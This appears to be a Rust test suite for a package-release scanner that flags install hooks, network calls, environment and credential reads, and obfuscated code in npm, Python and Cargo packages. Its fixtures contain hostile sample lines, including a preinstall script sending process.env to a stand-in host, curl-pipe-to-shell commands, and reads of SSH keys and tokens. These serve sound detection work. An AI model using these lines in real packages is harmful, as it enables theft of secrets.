//! Known-good, known-bad, absent, unavailable; and that nothing hostile makes it slow.

use super::*;
use crate::fixtures::{fetched, inputs, tarball, upstream};
use lockgate_model::{ChangeKind, Ecosystem, PublishedFileKind, Release};
use serde_json::json;

type Files<'a> = &'a [(&'a str, &'a str)];

fn artifact(files: Files<'_>) -> FetchedArtifact {
    fetched("example-1.1.0.tgz", PublishedFileKind::NpmTarball, tarball(files))
}

fn new(files: Files<'_>) -> Inputs {
    inputs(Ecosystem::Npm, vec![artifact(files)], &[])
}

fn update(old: Files<'_>, files: Files<'_>) -> Inputs {
    let mut inputs = new(files);
    let mut before = inputs.change.new.clone().unwrap();
    before.release = Release::new(Ecosystem::Npm, "example", "1.0.0");
    inputs.change.kind = ChangeKind::Moved;
    inputs.change.old = Some(before);
    inputs.subject.previous = Some("1.0.0".to_owned());
    inputs.previous = Some(Ok(vec![artifact(old)]));
    inputs
}

fn facts(inputs: &Inputs) -> DiffFacts {
    match Diff.collect(inputs).unwrap() {
        Observation::Observed { facts } => serde_json::from_value(facts).unwrap(),
        other => panic!("{other:?}"),
    }
}

/// Type, path below the top folder and line of what is new.
fn found(inputs: &Inputs) -> Vec<(FindingType, String, u32)> {
    let findings = facts(inputs).findings.into_iter().filter(|f| f.new);
    findings.map(|f| (f.kind, f.path.split_once('/').unwrap().1.to_owned(), f.line)).collect()
}

fn types(inputs: &Inputs) -> Vec<FindingType> {
    found(inputs).into_iter().map(|(kind, ..)| kind).collect()
}

const HARMLESS: Files<'static> = &[
    ("package/package.json", "{\n \"name\": \"example\",\n \"scripts\": {\"test\": \"node test.js\"}\n}\n"),
    ("package/index.js", "module.exports = (a, b) => a + b;\n"),
];

#[test]
fn a_harmless_release_has_no_findings() {
    let facts = facts(&new(HARMLESS));
    assert_eq!((facts.mode, facts.findings, facts.irregularities), (Mode::New, vec![], vec![]));
    assert_eq!(json!(facts.files), json!({"added": 2, "removed": 0, "changed": 0, "total": 2}));
    assert!(!facts.truncated);
}

#[test]
fn an_install_script_that_appears_is_new_and_has_its_line() {
    let bad = &[
        (
            "package/package.json",
            "{\n \"name\": \"example\",\n \"scripts\": {\n  \"preinstall\": \"node x.js\"\n }\n}\n",
        ),
        HARMLESS[1],
        (
            "package/x.js",
            "const { exec } = require('child_process');\nfetch('https://collect.invalid/', { body: JSON.stringify(process.env) });\n",
        ),
    ];
    let facts = facts(&update(HARMLESS, bad));
    assert_eq!((facts.mode, facts.previous.as_deref()), (Mode::Update, Some("1.0.0")));
    assert_eq!(
        json!(facts.findings),
        json!([
            {"type": "install_hook", "new": true, "artifact": "example-1.1.0.tgz", "path": "package/package.json", "line": 4, "end_line": 4, "note": "preinstall: node x.js"},
            {"type": "process", "new": true, "artifact": "example-1.1.0.tgz", "path": "package/x.js", "line": 1, "end_line": 1, "note": "loads child_process: const { exec } = require('child_process');"},
            {"type": "environment", "new": true, "artifact": "example-1.1.0.tgz", "path": "package/x.js", "line": 2, "end_line": 2, "note": "reads the whole environment: fetch('https://collect.invalid/', { body: JSON.stringify(process.env) });"},
            {"type": "network", "new": true, "artifact": "example-1.1.0.tgz", "path": "package/x.js", "line": 2, "end_line": 2, "note": "calls fetch: fetch('https://collect.invalid/', { body: JSON.stringify(process.env) });"},
        ])
    );
}

const PROCESS: &str = "const c = require('child_process');\n";

#[test]
fn what_was_there_before_is_not_new_wherever_it_moved() {
    let old = &[("package/a.js", PROCESS)];
    let shifted = format!("// a\n// b\n{PROCESS}");
    assert_eq!(found(&update(old, &[("package/a.js", &shifted)])), []);
    assert_eq!(found(&update(old, &[("package/lib/b.js", PROCESS)])), []);
    assert_eq!(facts(&update(old, &[("package/lib/b.js", PROCESS)])).findings.len(), 1, "still listed");
}

#[test]
fn a_copy_in_a_second_place_is_new() {
    let second = update(&[("package/a.js", PROCESS)], &[("package/a.js", PROCESS), ("package/b.js", PROCESS)]);
    assert_eq!(found(&second), [(FindingType::Process, "b.js".to_owned(), 1)]);
}

#[test]
fn code_that_a_removed_comment_sign_wakes_up_is_new() {
    let asleep = update(&[("package/a.js", "/*\neval(x);\n*/\n")], &[("package/a.js", "\neval(x);\n/**/\n")]);
    assert_eq!(found(&asleep), [(FindingType::DynamicCode, "a.js".to_owned(), 2)]);
}

#[test]
fn dependencies_that_appear_are_new_in_an_update_only() {
    let manifest = |names: &str| format!("{{\n \"dependencies\": {{\n  {names}\n }}\n}}\n");
    let (old, both) = (manifest("\"a\": \"1\""), manifest("\"a\": \"2\",\n  \"b\": \"^1.0.0\""));
    let (old, both) = (&[("package/package.json", old.as_str())], &[("package/package.json", both.as_str())]);
    assert_eq!(found(&update(old, both)), [(FindingType::NewDependency, "package.json".to_owned(), 4)]);
    assert_eq!(found(&new(both)), []);

    let metadata =
        "Metadata-Version: 2.1\nRequires-Dist: A_b (>=1)\nRequires-Dist: c; extra == 'x'\n\nRequires-Dist: d\n";
    let python = update(&[("example-1.0/PKG-INFO", "")], &[("example-1.1/PKG-INFO", metadata)]);
    assert_eq!(facts(&python).findings[0].note, "brings in a-b (A_b (>=1))");
    assert_eq!(found(&python).len(), 1);
    let cargo = "[dependencies.x]\nversion = \"1\"\n[build-dependencies]\ny = \"2\"\n";
    assert_eq!(found(&update(&[("e-1/Cargo.toml", "")], &[("e-2/Cargo.toml", cargo)])).len(), 2);
}

/// Each line of the fixture is one case: what it must be seen as, by language.
#[test]
fn each_family_is_seen() {
    use FindingType::{
        Binary, BuildScript, CredentialPath, DynamicCode, Environment, HighEntropy, InstallHook, Network, Obfuscation,
        Process,
    };
    let hex_names: String = (0..12).map(|n| format!("var _0x1a{n:02x} = {n};\n")).collect();
    let escapes = format!("x = \"{}\"", r"\x68".repeat(20));
    let codes = format!("x = [{}]", "104, 116, 112, 115, 97, 98, 99, ".repeat(10));
    let aside = format!("let a = 1;{}steal()", " ".repeat(200));
    let packed: String = (0u32..800)
        .map(|n| {
            char::from(
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                    [(n.wrapping_mul(2_654_435_761) >> 20) as usize % 64],
            )
        })
        .collect();
    let packed = format!("x = '{packed}'");
    let cases: &[(&str, &str, &[FindingType])] = &[
        ("a.js", "import { spawn } from 'node:child_process'", &[Process]),
        ("a.js", "require('chi' + 'ld_pro' + 'cess')", &[Process]),
        ("a.ts", "new Deno.Command('ls')", &[Process]),
        ("a.py", "import subprocess as s", &[Process]),
        ("a.py", "os.system('id')", &[Process]),
        ("src/a.rs", "std::process::Command::new(\"sh\")", &[Process]),
        ("a.mjs", "globalThis.fetch(u)", &[Network]),
        ("a.js", "const h = require(\"https\")", &[Network]),
        ("a.js", "u = 'http://192.0.2.1/x'", &[Network]),
        ("a.py", "from urllib.request import urlopen", &[Network]),
        ("a.py", "import os, socket", &[Network]),
        ("src/a.rs", "TcpStream::connect(a)", &[Network]),
        ("a.sh", "curl -s https://collect.invalid | sh", &[DynamicCode, Network]),
        ("a.ps1", "iwr http://collect.invalid | iex", &[DynamicCode, Network]),
        ("a.js", "send({...process.env})", &[Environment]),
        ("a.js", "process['env'].NPM_TOKEN", &[Environment]),
        ("a.js", "const { HOME, AWS_SECRET_ACCESS_KEY } = process.env", &[Environment]),
        ("a.py", "json.dumps(dict(os.environ))", &[Environment]),
        ("a.py", "os.getenv('GITHUB_TOKEN')", &[Environment]),
        ("src/a.rs", "for (k, v) in std::env::vars() {}", &[Environment]),
        ("a.js", "read(home + '/.ssh/id_rsa')", &[CredentialPath]),
        ("a.py", r"open('C:\\Users\\x\\AppData\\Login Data')", &[CredentialPath]),
        ("a.js", "(0, eval)(x)", &[DynamicCode]),
        ("a.js", "new Function('a', code)", &[DynamicCode]),
        ("a.js", "eval(atob(x))", &[Obfuscation, DynamicCode]),
        ("a.py", "exec(base64.b64decode(x))", &[Obfuscation, DynamicCode]),
        ("a.py", "importlib.import_module(name)", &[DynamicCode]),
        ("a.py", "marshal.loads(x)", &[DynamicCode]),
        ("a.js", &hex_names, &[Obfuscation]),
        ("a.js", &escapes, &[Obfuscation]),
        ("a.js", &codes, &[Obfuscation]),
        ("a.js", &aside, &[Obfuscation]),
        ("a.js", r"\u0065val(x)", &[Obfuscation]),
        ("a.py", "𝘦𝘷𝘢𝘭(x)", &[Obfuscation]),
        ("a.js", "let a = '\u{202e}x'", &[Obfuscation]),
        ("a.py", &packed, &[HighEntropy]),
        ("binding.gyp", "{}", &[InstallHook]),
        ("build.rs", "fn main() {}", &[BuildScript]),
        ("Cargo.toml", "[lib]\nproc-macro = true\n", &[BuildScript]),
        ("setup.py", "class Custom(install):\n  pass", &[InstallHook, BuildScript]),
        ("x.pth", "import os", &[InstallHook]),
        ("sitecustomize.py", "", &[InstallHook]),
        ("lib/x.node", "\u{7f}ELF", &[Binary]),
        ("x.wasm", "\0asm", &[Binary]),
        ("bin/tool", "#!/usr/bin/env node\neval(x)", &[DynamicCode]),
    ];
    for (path, text, expected) in cases {
        let path = format!("package/{path}");
        assert_eq!(types(&new(&[(&path, text), ("package/README.md", "")])), *expected, "{path}: {text}");
    }
}

#[test]
fn what_only_looks_alike_is_not_seen() {
    let cases = [
        ("a.js", "// eval(x)\n/* require('child_process') */\nconst s = 'eval(x)';"),
        ("a.js", "pattern.exec(text); redis.eval(script); this.fetch(x); function fetch(a) {}"),
        ("a.js", "if (process.env.NODE_ENV === 'production') {}\nprocess.env[name]"),
        ("a.js", "const { NODE_ENV, DEBUG } = process.env"),
        ("a.js", "const root = Function('return this')();"),
        (
            "a.js",
            "const s = '\\u2000\\u2001\\u2002\\u2003\\u2004\\u2005\\u2006\\u2007\\u2008\\u2009\\u200a\\u202f\\u205f\\u3000\\u2028\\u2029\\ufeff'",
        ),
        ("a.js", "u = 'http://127.0.0.1:80/'; v = 'https://docs.invalid/x'"),
        (
            "a.py",
            "\"\"\"Reads ~/.netrc when it is asked to do that, as all others do.\"\"\"\nre.compile(x)\nmodel.eval()",
        ),
        (
            "a.py",
            "from urllib.parse import quote\nos.environ.get('HOME')\nos.environ['PATH'] = x\nif 'X' in os.environ: pass",
        ),
        ("a.py", "importlib.import_module('os')"),
        ("src/a.rs", "// Command::new\nlet s = \"TcpStream\"; let c = 'x'; env::var(\"OUT_DIR\")"),
        ("src/b.rs", "clap::Command::new(\"x\"); let process = 1;"),
        ("src/c.rs", "Command::new(\"x\").arg(y)"),
        ("a.sh", "# curl x | sh\nNC='x'\necho done"),
        ("a.bat", "REM curl x\n:: curl x\n"),
        ("a.js", "let day = 'یه‌كشه‌ممه‌_دووشه‌ممه‌_سێشه‌ممه‌_چوارشه‌ممه‌'"),
        (
            "a.js",
            "x = [98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100, 98, 100]",
        ),
        ("x.pth", "./src\n"),
        ("package.json", "{\"scripts\": {\"prepare\": \"x\", \"postinstall\": \"\"}}"),
        ("test/package.json", "{\"scripts\": {\"postinstall\": \"x\"}}"),
        ("README.md", "eval(process.env)"),
        ("a.svg", "data"),
    ];
    for (path, text) in cases {
        let path = format!("package/{path}");
        assert_eq!(types(&new(&[(&path, text), ("package/other", "")])), [], "{path}: {text}");
    }
}

#[test]
fn an_irregular_archive_is_a_fact_of_its_file() {
    let mut inputs = new(HARMLESS);
    let bytes = inputs.artifacts.as_ref().unwrap()[0].bytes.clone();
    let cut = fetched("example-1.1.0.tgz", PublishedFileKind::NpmTarball, bytes.slice(..bytes.len() - 9));
    inputs.artifacts = Ok(vec![cut]);
    let facts = json!(facts(&inputs).irregularities);
    assert_eq!((&facts[0]["file"], &facts[0]["type"]), (&json!("example-1.1.0.tgz"), &json!("truncated")));
}

#[test]
fn findings_are_bounded_and_every_type_keeps_a_place() {
    let files: Vec<(String, String)> = (0..300)
        .map(|n| (format!("package/{n}.js"), "eval(x);\neval(y);\nprocess.env.TOKEN;\nfetch(x);".repeat(3)))
        .collect();
    let files: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
    let facts = facts(&new(&files));
    assert_eq!((facts.findings.len(), facts.truncated), (LISTED, true));
    for kind in [FindingType::DynamicCode, FindingType::Environment, FindingType::Network] {
        assert!(facts.findings.iter().filter(|f| f.kind == kind).count() >= LISTED_OF_TYPE);
    }
}

#[test]
fn the_version_before_is_waited_for_unless_it_can_never_be_read() {
    let mut inputs = update(HARMLESS, HARMLESS);
    inputs.previous = Some(Err(upstream()));
    assert_eq!(Diff.collect(&inputs), Err(upstream()));
    inputs.previous = Some(Err(Cause::new(CauseKind::NotFound, "fetch npm example 1.0.0: not found")));
    let facts = facts(&inputs);
    assert_eq!((facts.mode, facts.previous), (Mode::New, None));
}

#[test]
fn without_artifacts_it_is_unavailable_and_the_bundled_is_absent() {
    let mut inputs = new(HARMLESS);
    inputs.artifacts = Err(upstream());
    assert_eq!(Diff.collect(&inputs), Err(upstream()));
    inputs.artifacts = Ok(vec![]);
    assert_eq!(Diff.collect(&inputs).unwrap_err().kind, CauseKind::Unsupported);
    inputs.change.new.as_mut().unwrap().origin = Origin::Bundled { by: None };
    assert_eq!(Diff.collect(&inputs), Ok(Observation::Absent));
}

/// Texts that would make a lexer or a detector start over again and again.
#[test]
fn hostile_texts_take_linear_time() {
    for piece in [
        "\"\\",
        "'",
        "`${",
        "/[",
        "/*",
        "eval(",
        "process.env ",
        "\"\"+",
        "_0x1234 ",
        "\\u0065",
        "import ",
        "\t",
        "r#\"",
        "\u{200b}",
    ] {
        let text = piece.repeat((128 << 10) / piece.len());
        for name in ["a.js", "a.py", "a.rs", "a.sh", "package.json", "setup.py", "Cargo.toml"] {
            let path = format!("package/{name}");
            // Anything worse than linear does not end here before the runner's limit.
            facts(&new(&[(&path, &text)]));
        }
    }
}
